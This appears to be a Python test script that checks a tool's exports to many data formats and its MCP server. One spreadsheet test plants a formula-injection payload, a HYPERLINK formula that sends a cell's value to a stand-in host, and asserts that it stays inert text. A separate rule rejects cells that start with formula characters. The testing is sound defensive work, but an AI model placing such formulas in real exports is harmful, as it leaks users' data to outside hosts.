"""Reads every export of a case as its peers do, and talks to `headwater mcp` as an assistant does.

check.py HEADWATER INPUT WORKDIR SCHEMA, with the packages of requirements.txt, the schema TEI All and
Gnumeric's ssconvert. Each check fails with what is wrong.
"""

import asyncio
import csv
import json
import os
import pathlib
import subprocess
import sys

HEADWATER, INPUT, WORK, SCHEMA = (pathlib.Path(a).absolute() for a in sys.argv[1:5])
CASE = WORK / "case"


def headwater(*args):
    done = subprocess.run([str(HEADWATER), *map(str, args)], capture_output=True, text=True)
    assert done.returncode == 0, f"headwater {args}: {done.stderr}"
    return done.stdout


def export(to):
    out = WORK / to
    headwater("export", CASE, "--to", to, "-o", out)
    return out


def rows(name):
    with open(CASE / f"{name}.jsonl", encoding="utf-8") as file:
        return [json.loads(line) for line in file]


def texts():
    return {row["document"]: row["text"] for row in rows("texts")}


def check_csv():
    """Python's csv: as many rows as JSON Lines, every cell harmless."""
    out = export("csv")
    csv.field_size_limit(1 << 30)
    for path in CASE.glob("*.jsonl"):
        with open(out / f"{path.stem}.csv", encoding="utf-8-sig", newline="") as file:
            table = list(csv.reader(file, strict=True))
        assert len(table) - 1 == len(rows(path.stem)), path.stem
        for row in table:
            assert len(row) == len(table[0]), row
            assert not any(cell[:1] in set("=+-@\t\r\n") for cell in row if not number(cell)), row


def number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check_spreadsheet():
    """Gnumeric: as many rows and columns, words as they were, no formula where an input wants one."""
    formula = '=HYPERLINK("http://a.example/?x="&A1,"naïve")'
    text = f"{formula}\n\n“{formula}” – said Mara Oduya, the lock keeper of Brannoch, on Tuesday.\n"
    evil = WORK / "evil.jsonl"
    evil.write_text(json.dumps({"id": "+1", "title": formula, "outlet": "@SUM(1)", "text": text}))
    # Gnumeric guesses what parts columns, and takes slashes for it where there are many.
    os.chdir(WORK)
    for pile, case in ((INPUT, WORK / "plain"), (evil.name, WORK / "evil")):
        headwater("run", pile, "-o", case)
        headwater("export", case, "--to", "csv", "-o", case / "csv")
        for path in (case / "csv").glob("*.csv"):
            with open(path, encoding="utf-8-sig", newline="") as file:
                table = list(csv.reader(file))
            cells = spreadsheet(path)
            full = {(r, c) for r, row in enumerate(table) for c, cell in enumerate(row) if cell}
            assert cells.keys() == full, (path, cells.keys() ^ full)
            for (r, c), (kind, value) in cells.items():
                assert kind is not None, f"{path}: a formula: {value}"
                if kind == "60":
                    assert value == table[r][c].removeprefix("'"), (path, value)
    titles = spreadsheet(WORK / "evil" / "csv" / "documents.csv").values()
    assert ("60", formula) in titles


def spreadsheet(path):
    """Cells of a CSV file as Gnumeric reads it: type ('60' is words, none is a formula) and value."""
    from lxml import etree

    out = path.with_suffix(".gnumeric.xml")
    how = ["-I", "Gnumeric_stf:stf_csvtab", "-T", "Gnumeric_XmlIO:sax:0"]
    subprocess.run(["ssconvert", *how, path, out], check=True, capture_output=True)
    name = "{http://www.gnumeric.org/v10.dtd}Cell"
    cells = etree.parse(out, etree.XMLParser(huge_tree=True)).iter(name)
    place = lambda cell: (int(cell.get("Row")), int(cell.get("Col")))
    return {place(cell): (cell.get("ValueType"), cell.text) for cell in cells}


def check_parquet():
    """pyarrow: the rows of JSON Lines, what those leave out being null."""
    import pyarrow.parquet

    out = export("parquet")
    for path in CASE.glob("*.jsonl"):
        table = pyarrow.parquet.read_table(out / f"{path.stem}.parquet")
        found = table.to_pylist()
        expected = rows(path.stem)
        assert len(found) == len(expected), path.stem
        for a, b in zip(found, expected):
            for name, value in b.items():
                got = a[name]
                if name == "extra":
                    got = json.loads(got)
                assert got == value, (path.stem, name, got, value)


def check_graphml():
    """networkx: nodes are the documents and origins, edges the rows of lineage."""
    import networkx

    graph = networkx.read_graphml(export("graphml") / "lineage.graphml", force_multigraph=True)
    lineage = rows("lineage")
    assert graph.number_of_edges() == len(lineage)
    names = {data["id"] for _, data in graph.nodes(data=True)}
    assert names == {d["id"] for d in rows("documents")} | {e["from"] for e in lineage}
    directed = sum(data["directed"] for _, _, data in graph.edges(data=True))
    assert directed == sum(e["directed"] for e in lineage)


def check_annotations():
    """Web Annotation: what its model demands, and positions in code points of the text."""
    page = json.loads((export("annotations") / "annotations.jsonld").read_text("utf-8"))
    assert page["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert page["type"] == "AnnotationCollection"
    items = page["first"]["items"]
    assert page["total"] == len(items) > 0
    assert len({item["id"] for item in items}) == len(items)
    by_prefix = list(texts().values())
    motivations = {"identifying", "describing", "linking", "questioning"}
    for item in items:
        assert item["type"] == "Annotation" and item["motivation"] in motivations
        targets = item["target"] if isinstance(item["target"], list) else [item["target"]]
        for target in targets:
            quote, place = target["selector"]
            start, end = place["start"], place["end"]
            exact = quote["prefix"] + quote["exact"] + quote["suffix"]
            begin = start - len(quote["prefix"])
            assert any(t[begin : begin + len(exact)] == exact for t in by_prefix), item
            assert end - start == len(quote["exact"])


def check_prov():
    """The package prov: reads it, and gives it back as PROV-N."""
    from prov.model import ProvDerivation, ProvDocument

    document = ProvDocument.deserialize(export("prov") / "prov.json", format="json")
    derived = list(document.get_records(ProvDerivation))
    assert len(derived) == sum(e["directed"] for e in rows("lineage"))
    assert len(document.get_provn()) > 1000


def check_collatex():
    """CollateX: rows and cells of its tables; the tokens are the words of the text at their place."""
    text = texts()
    with open(export("collatex") / "collatex.jsonl", encoding="utf-8") as file:
        tables = [json.loads(line) for line in file]
    assert len(tables) == len(rows("collations"))
    for table in tables:
        widths = {len(row) for row in table["table"]}
        assert len(widths) <= 1 and len(table["table"]) == len(table["witnesses"])
        for document, row in zip(table["documents"], table["table"]):
            for token in (t for cell in row if cell for t in cell):
                place = text[document][token["start_char"] : token["end_char"]]
                assert token["t"].strip() == place, (document, token)


def check_tei():
    """lxml with the schema TEI All."""
    from lxml import etree

    tree = etree.parse(export("tei") / "apparatus.xml")
    rules = etree.RelaxNG(etree.parse(str(SCHEMA)))
    assert rules.validate(tree), rules.error_log
    name = {"t": "http://www.tei-c.org/ns/1.0"}
    listed = set(tree.xpath("//t:witness/@xml:id", namespaces=name))
    named = {s for wit in tree.xpath("//t:rdg/@wit", namespaces=name) for s in wit.split()}
    assert named and {s[1:] for s in named} <= listed


def check_ftm():
    """The package followthemoney: schemata, properties and values it accepts, references that hold."""
    from followthemoney import model

    entities = {}
    with open(export("ftm") / "entities.ftm.json", encoding="utf-8") as file:
        for line in file:
            given = json.loads(line)
            entity = model.get_proxy(given, cleaned=False)
            assert entity.id not in entities, entity.id
            entities[entity.id] = entity
            for name, values in given["properties"].items():
                assert name in entity.schema.properties, (entity.schema.name, name)
                kept = entity.get(name)
                assert len(kept) >= 1, (entity.schema.name, name, values)
            entity.schema.validate(given)
    for entity in entities.values():
        for prop, value in entity.itervalues():
            if prop.type.name == "entity":
                assert entities[value].schema.is_a(prop.range), (entity.schema.name, prop.name)


def check_markdown():
    """markdown-it: headings of the dossier, and no HTML that came from a document."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse((export("markdown") / "dossier.md").read_text("utf-8"))
    headings = [t for t in tokens if t.type == "heading_open" and t.tag == "h2"]
    assert len(headings) >= len(rows("stories"))
    inline = [c for t in tokens for c in t.children or []]
    assert not [t for t in tokens + inline if t.type.startswith("html")]


def check_bundle():
    """zipfile: reads the bundle; verify agrees with the sums that Python makes."""
    import hashlib
    import zipfile

    bundle = WORK / "evidence.zip"
    headwater("bundle", CASE, "-o", bundle)
    with zipfile.ZipFile(bundle) as file:
        assert file.testzip() is None
        for member in json.loads(file.read("bundle.json"))["members"]:
            content = file.read(member["name"])
            assert hashlib.sha256(content).hexdigest() == member["sha256"], member
    assert "came out again" in headwater("verify", bundle)


async def talk(mode):
    from mcp import Client, StdioServerParameters

    server = StdioServerParameters(command=str(HEADWATER), args=["mcp", str(CASE), "--quiet"])
    async with Client(server, mode=mode) as client:
        tools = (await client.list_tools()).tools
        assert len(tools) >= 7 and all(t.annotations.read_only_hint for t in tools)

        async def ask(tool, **arguments):
            answer = await client.call_tool(tool, arguments)
            assert not answer.is_error, answer
            assert json.loads(answer.content[0].text) == answer.structured_content
            return answer.structured_content

        stories = (await ask("list_stories"))["stories"]
        assert len(stories) == min(20, len(rows("stories")))
        story = await ask("get_story", story=stories[0]["id"])
        collation = await ask("get_collation", collation=story["collations"][0]["id"])
        assert collation["support"]["reasons"] is not None
        witness = collation["wordings"][0][0]["witnesses"][0]
        passage = (
            await ask(
                "get_document",
                document=witness["document"],
                start_char=witness["start_char"],
                end_char=witness["end_char"],
            )
        )["passage"]
        assert passage["text"] == witness["text"] and passage["start"] == witness["start"]
        words = " ".join(witness["text"].split()[:3])
        found = await ask("search_words", words=words)
        assert found["total"] >= 1
        for place in found["places"]:
            hit = place["words"]
            assert texts()[hit["document"]][hit["start_char"] : hit["end_char"]] == hit["text"]
        await ask("list_discrepancies")
        speaker = next(q for q in rows("quotations") if q["speaker"])["speaker"]
        name = next(e for e in rows("entities") if e["id"] == speaker)["name"]
        assert (await ask("who_said_what", speaker=name))["total"] >= 1
        assert (await client.call_tool("get_story", {"story": "none"})).is_error


def check_mcp():
    """The official client, with the handshake and without."""
    for mode in ("legacy", "auto"):
        asyncio.run(talk(mode))


def main():
    headwater("run", INPUT, "-o", CASE)
    checks = {name[6:]: check for name, check in globals().items() if name.startswith("check_")}
    for name, check in checks.items():
        check()
        print(f"{name}: read as {check.__doc__}")


if __name__ == "__main__":
    main()
